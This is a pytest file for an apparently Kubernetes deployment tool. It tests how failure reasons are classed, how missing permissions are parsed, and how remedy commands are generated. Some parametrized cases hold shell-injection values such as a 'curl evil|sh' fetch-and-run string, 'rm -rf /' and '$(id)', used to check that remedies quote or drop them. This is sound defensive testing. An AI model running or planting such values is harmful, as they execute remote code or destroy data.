"""Cause and remedy fit the fault; one cause is one block, however many objects it befalls."""

import shlex

import pytest

from leafcast.daemon.verbs.diagnosis import placement_facts
from leafcast.doctor.findings import PlacementFinding
from leafcast.doctor.placement_checks import placement_checks
from leafcast.show.faults import FaultGroup, FaultSample, faults
from leafcast.show.tree_tables import placement_view, placements_view
from schemas.reports.missing_rights import MissingRight, missing_right, reported
from schemas.reports.reports import ExceptionSample
from schemas.reports.states import AT_WORK
from schemas.values.faults import Fault, told_once
from tests.unit.test_checks import facts

EDGE = "system:serviceaccount:leafcast-system:leafcast-edge"


def refused(resource, group="apps", name="web", user=EDGE, where=' in the namespace "shop"'):
    """What a real API server says."""
    kind = f"{resource}.{group}" if group else resource
    return (
        f'{kind} "{name}" is forbidden: User "{user}" cannot patch resource "{resource}" in API '
        f'group "{group}"{where}'
    )


def sample(reason, obj="deployments.apps/shop/web", severity=0, placement="shop", path="/emea/s1"):
    return FaultSample(placement, severity, obj, reason, 1, path)


@pytest.mark.parametrize(
    ("reason", "severity", "name"),
    [
        (reported("Forbidden", refused("deployments")), 0, "MissingRight"),
        ("Timeout: no answer within 30 s", 0, "Unreachable"),
        ("ServiceUnavailable: the API server at https://x cannot be reached: x", 0, "Unreachable"),
        ("TooManyRequests: slow down", 0, "Unreachable"),
        ('InternalError: failed calling webhook "w.x": no endpoints', 0, "WebhookUnreachable"),
        ('Forbidden: admission webhook "w.x" denied the request: no', 0, "WebhookDenied"),
        ('BadRequest: admission webhook "w.x" denied the request: no', 0, "WebhookDenied"),
        ("Forbidden: exceeded quota: object-counts, requested: x", 0, "Quota"),
        ("FailedCreate: pods \"x\" is forbidden: exceeded quota: q, used: 1", 2, "Quota"),
        ('Forbidden: violates PodSecurity "restricted:latest": x', 0, "PolicyDenied"),
        ("Forbidden: unable to create new content in namespace x because it is being terminated",
         0, "Terminating"),
        ("Unauthorized: Unauthorized: the server does not know the user", 0, "Unauthorized"),
        ('NotFound: no matches for kind "W" in version "x/v1": ensure CRDs are installed first',
         0, "NotServed"),
        ('NotFound: namespaces "shop" not found', 0, "NamespaceMissing"),
        ("AlreadyExists: it is there already and not ours: delete it", 0, "Conflict"),
        ("Conflict: kubectl owns spec.replicas: leave these fields out", 0, "Conflict"),
        ("Invalid: spec.selector: field is immutable; delete the object", 0, "Immutable"),
        ("Invalid: spec.x: Required value", 0, "Invalid"),
        ("RequestEntityTooLarge: too long", 0, "TooLarge"),
        ("InternalError: boom", 0, "ServerFault"),
        ("Contended: contended with manager x over y", 0, "Contended"),
        ("Contended: deleted there again and again, 4 times so far", 0, "TakenAgain"),
        ("ImagePullBackOff: Back-off pulling image web:broken", 2, "ImagePull"),
        ("0 of 2 replicas available: CrashLoopBackOff: container web ends", 2, "Crash"),
        ("Unschedulable: 0/1 nodes are available", 2, "Unschedulable"),
        ("not bound to a volume", 2, "Volume"),
        ("0 of 2 replicas available", 2, "NotWorking"),
        ("Denied", 0, "Refused"),
        ("Frozen: data.x: no property", 0, "Frozen"),
        ("Overridden: shop says otherwise", 1, "Overridden"),
        ("StaleView: old", 1, "OldView"),
    ],
)  # fmt: skip
def test_a_reason_is_of_one_kind_and_the_object_is_blamed_for_its_own_faults_alone(
    reason, severity, name
):
    (fault,) = faults([sample(reason, severity=severity)])
    assert fault.kind.name == name
    remedy = fault.remedy("leafcast status shop")
    assert remedy
    assert "{" not in remedy
    assert fault.kind.cause
    if fault.kind.of_place:
        assert "mend the object" not in remedy
        assert "refuses it" not in fault.kind.cause


def test_a_missing_right_is_read_from_what_the_server_says_and_from_what_is_reported():
    right = MissingRight("patch", "deployments", "apps", "shop", EDGE)
    said = refused("deployments")
    assert missing_right(f"Forbidden: {said}") == right
    told = reported("Forbidden", said)
    assert len(told) < 200
    assert missing_right(told) == right
    assert missing_right(f"{told}; since 2026-01-01T00:00:00Z") == right
    at_cluster = missing_right(
        reported("Forbidden", refused("x", "", where=" at the cluster scope"))
    )
    assert (at_cluster.kind, at_cluster.namespace) == ("x", "")
    assert missing_right("Invalid: x") is None
    assert reported("Forbidden", 'pods "x" is forbidden: exceeded quota: q') == (
        "Forbidden: exceeded quota: q"
    )


def fifteen():
    kinds = ("deployments", "statefulsets", "daemonsets")
    return [
        ExceptionSample(
            0, f"{kinds[at % 3]}.apps/shop/web-{at}",
            reported("Forbidden", refused(kinds[at % 3], name=f"web-{at}")), 1, "/emea/s1",
        )
        for at in range(15)
    ]  # fmt: skip


def failures(*placements):
    found = placement_checks(facts(placements=placements))
    return [check for check in found if check.state == "failure"]


def placement(name, stuck):
    return PlacementFinding(name, 2, 0, complete=True, stuck=stuck)


def test_fifteen_objects_of_one_missing_right_are_one_block_that_says_what_to_grant():
    (check,) = failures(placement("shop", fifteen()))
    assert check.said.startswith("shop: 15 objects, such as shop/")
    assert "no right to patch daemonsets.apps, deployments.apps, statefulsets.apps" in check.said
    assert "in the namespace shop" in check.said
    assert check.remedy == (
        "in the cluster of /emea/s1: leafcast install --role edge --namespace shop | "
        "kubectl apply -f -"
    )
    assert check.about == "edgeplacement/shop"


def test_an_edge_that_lacks_a_right_of_the_whole_cluster_is_granted_that_alone():
    said = reported("Forbidden", refused("namespaces", "", where=" at the cluster scope"))
    (fault,) = faults([sample(said)])
    narrow, _, whole = fault.remedy("").partition("; or, if it may have the whole cluster: ")
    assert "--resource=namespaces;" in narrow
    assert "clusterrolebinding leafcast-more" in narrow
    assert "--serviceaccount=leafcast-system:leafcast-edge" in narrow
    assert "install" not in narrow
    assert whole == "leafcast install --role edge | kubectl apply -f -"


def test_an_account_of_ones_own_is_granted_by_a_rule():
    said = reported("Forbidden", refused("deployments", user="jane"))
    (fault,) = faults([sample(said)])
    assert "--resource=deployments.apps" in fault.remedy("")
    assert "kubectl create rolebinding leafcast-more -n shop" in fault.remedy("")
    assert fault.remedy("").endswith("--user=jane")
    said = reported("Forbidden", refused("deployments", user="system:serviceaccount:a:b"))
    (fault,) = faults([sample(said)])
    assert "--serviceaccount=a:b" in fault.remedy("")


@pytest.mark.parametrize("user", ["a'$(curl evil|sh)'", "jane; rm -rf /", "a`id`", "two words"])
def test_a_users_name_is_one_word_of_the_command_that_grants(user):
    said = reported("Forbidden", refused("deployments", user=user))
    (fault,) = faults([sample(said)])
    [right] = [right for right in (missing_right(said),) if right is not None]
    *_, bound = fault.remedy("").partition("; kubectl create rolebinding ")
    assert shlex.split(bound)[-1] == f"--user={right.user}"


@pytest.mark.parametrize(
    ("kind", "user", "namespace"),
    [
        ("deployments", "jane\nid", "shop"),
        ("deployments", "jane\x1b[2J", "shop"),
        ("$(id)", "jane", "shop"),
        ("deployments", "jane", "$(id)"),
    ],
)
def test_what_is_no_name_makes_no_command_that_grants(kind, user, namespace):
    told = f"Forbidden: no right to get {kind} in the namespace {namespace}, as {user}"
    (fault,) = faults([sample(told)])
    assert (
        fault.remedy("") == "in the cluster of /emea/s1: give the account the right that it lacks"
    )


@pytest.mark.parametrize(
    "obj", ["deployments.apps/shop/web$(id)", "pods/$(id)/web", "`id`/shop/web", "pods/a\nid", ""]
)
@pytest.mark.parametrize("reason", ["CrashLoopBackOff", "ImagePullBackOff", "ill"])
def test_what_is_no_name_of_an_object_stands_in_no_command(obj, reason):
    fault = FaultGroup(faults([sample(reason, severity=2)])[0].kind, [sample(reason, obj, 2)])
    remedy = fault.remedy("leafcast status shop")
    assert "describe KIND NAME --at /emea/s1" in remedy
    assert "id" not in remedy.replace("besides", "").split()
    assert not set(remedy) & set("$`\n")
    away = FaultGroup(fault.kind, [sample(reason, severity=2, path="/a$(id)")])
    assert "--at PATH" in away.remedy("")


@pytest.mark.parametrize(
    ("reason", "name"),
    [
        ("Waiting: for the placement base to be healthy here", "Waiting"),
        ("Sealed: no key", "Sealed"),
        ("something else", "Place"),
    ],
)
def test_what_befalls_a_whole_placement_is_of_the_kind_that_its_reason_names(reason, name):
    (fault,) = faults([sample(reason, obj="", severity=AT_WORK)])
    assert fault.kind.name == name
    (of_kind,) = faults([sample(reason, obj="widgets.example.com", severity=2)])
    assert of_kind.kind.name == "Place"


def test_a_server_that_does_not_answer_is_one_block_for_all_placements():
    hangs = [
        ExceptionSample(0, f"configmaps/shop/c{at}", reason, 1, "/emea/s1")
        for at, reason in enumerate(["Timeout: no answer", "ServiceUnavailable: cannot be reached"])
    ]
    (check,) = failures(placement("shop", hangs), placement("other", hangs[:1]))
    assert check.said.startswith("other, shop: ")
    assert "objects are not at fault" in check.cause
    assert "mend" not in check.remedy
    assert check.about == ""


def test_two_causes_are_two_blocks_and_what_nobody_knows_is_not_lumped_together():
    stuck = [
        ExceptionSample(0, "configmaps/shop/a", "Invalid: a", 1, "/emea/s1"),
        ExceptionSample(0, "configmaps/shop/b", "Denied", 1, "/emea/s1"),
        ExceptionSample(0, "configmaps/shop/c", "Denied", 1, "/emea/s1"),
    ]
    assert len(failures(placement("shop", stuck))) == 3


def plain_text(view, width):
    return "\n".join(view.lines(width))


def form(stuck):
    fields = ("severity", "object", "reason", "count", "path")
    exceptions = [{name: getattr(item, name) for name in fields} for item in stuck]
    return {
        "name": "shop", "problem": "", "lack": "", "selected": 15, "destinations": 1,
        "never_joined": 0, "complete": True, "states": {"failing": 1}, "health": {"unknown": 1},
        "blocking": [], "unreachable": [], "children": [], "exceptions": exceptions,
    }  # fmt: skip


def test_the_status_of_a_placement_has_one_row_for_one_cause_and_what_to_grant():
    text = plain_text(placement_view(form(fifteen()), 0), 80)
    assert text.count("Forbidden") == 1
    assert "15 objects, such as" in text
    assert "leafcast install --role edge --namespace shop" in " ".join(text.split())
    assert len(text.splitlines()) < 20
    listed = plain_text(placements_view([form(fifteen())], 0), 200)
    assert len(listed.splitlines()) == 2
    assert "15 objects: Forbidden: no right to patch" in listed


def test_of_a_full_report_nobody_knows_how_many_more_there_are():
    names = [f"configmaps/shop/c{at}" for at in range(20)]
    full = [ExceptionSample(0, name, "Timeout: no", 1, "/e") for name in names]
    (check,) = failures(placement("shop", full))
    assert "at least 20 objects" in check.said


@pytest.mark.parametrize(
    ("reason", "kept"),
    [
        ("0 of 2 replicas available: ImagePullBackOff: no such image", True),
        ("Unschedulable: 0/1 nodes are available", True),
        ("0 of 2 replicas available", False),
        ("paused", False),
    ],
)
def test_the_doctor_warns_of_what_is_at_work_once_it_says_what_keeps_it(reason, kept):
    item = {"severity": AT_WORK, "object": "pods/shop/web", "reason": reason, "count": 1}
    form = {
        **dict.fromkeys(("name", "problem", "lack", "undenatured"), ""),
        **dict.fromkeys(("held", "blocking", "unreturned"), ()),
        "destinations": 1,
        "never_joined": 0,
        "mayBeEmpty": False,
        "states": {},
        "complete": True,
        "exceptions": [{**item, "path": "/emea/s1"}],
    }
    found = placement_facts(form)
    checks = [check.state for check in placement_checks(facts(placements=[found]))]
    assert checks.count("warning") == kept


def test_what_is_wrong_alike_in_several_objects_is_told_once_with_their_number():
    alike = [Fault(f"deployments.apps/shop/{name}", "cannot be", "mend it") for name in "abc"]
    other = Fault("configmaps/shop/a", "is too large")
    assert told_once([alike[0], other, *alike[1:]]) == [
        "deployments.apps/shop/a and 2 more: cannot be; mend it",
        "configmaps/shop/a: is too large",
    ]
